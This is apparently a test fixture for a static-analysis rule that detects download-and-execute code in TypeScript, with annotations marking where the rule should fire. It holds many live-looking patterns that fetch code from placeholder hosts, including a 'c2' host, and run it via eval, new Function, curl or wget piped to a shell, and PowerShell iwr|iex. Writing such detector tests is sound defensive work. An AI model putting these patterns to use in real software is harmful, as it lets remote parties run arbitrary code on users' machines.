import { exec, execSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import axios from 'axios';

fetch('https://files.example.invalid/a.js')
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
  .then((answer) => answer.text())
  .then(eval);

fetch('https://files.example.invalid/b.js')
  .then((answer) => answer.text())
  .then((text) => new Function('require', text)(require));
//                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

https.get('https://files.example.invalid/c.js', (answer) => {
  let body = '';
  answer.on('data', (chunk) => {
    body += chunk;
  });
  answer.on('end', () => {
    eval(body);
//  ^^^^^^^^^^ download-and-execute: error
  });
});

(async () => {
  const { data } = await axios.get('https://files.example.invalid/d.js');
  eval(data.code);
  //<^^^^^^^^^^^^ download-and-execute: error
})();

execSync('curl -s https://files.example.invalid/e.sh | sh');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

exec('wget -q https://files.example.invalid/agent -O /tmp/agent; chmod +x /tmp/agent; /tmp/agent');
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

spawn('bash', ['-c', 'curl -L https://files.example.invalid/f | bash'], { detached: true });
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

exec(`powershell -c "iwr https://files.example.invalid/g.ps1 | iex"`);
//<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

const target = path.join(os.tmpdir(), 'helper.js');
https.get('https://files.example.invalid/helper.js', (answer) => {
  answer.pipe(fs.createWriteStream(target)).on('finish', () => {
    spawn(process.execPath, [target]);
//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
  });
});

export async function update(): Promise<void> {
  const answer = await fetch('https://files.example.invalid/update.js');
  fs.writeFileSync('/tmp/update.js', await answer.text());
  require('/tmp/update.js');
  //<^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
}

export async function order(): Promise<void> {
  const answer = await fetch('https://c2.example.invalid/next');
  execSync(await answer.text());
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
}

https.get('https://files.example.invalid/h.js', (answer) => {
  const parts: Buffer[] = [];
  answer.on('data', (part: Buffer) => parts.push(part));
  answer.on('end', () => {
    new Function(Buffer.concat(parts).toString())();
//  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
  });
});

axios.get('https://files.example.invalid/i.js').then((answer) => {
  new Function('require', answer.data.cookie)(require);
  //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
});

function ask(address: string): Promise<string> {
  return new Promise((resolve) => {
    https.get(address, (answer) => {
      let body = '';
      answer.on('data', (chunk) => (body += chunk));
      answer.on('end', () => resolve(body));
    });
  });
}

ask('https://files.example.invalid/j.js').then((code) => eval(code));
//                                                       ^^^^^^^^^^ todo: download-and-execute
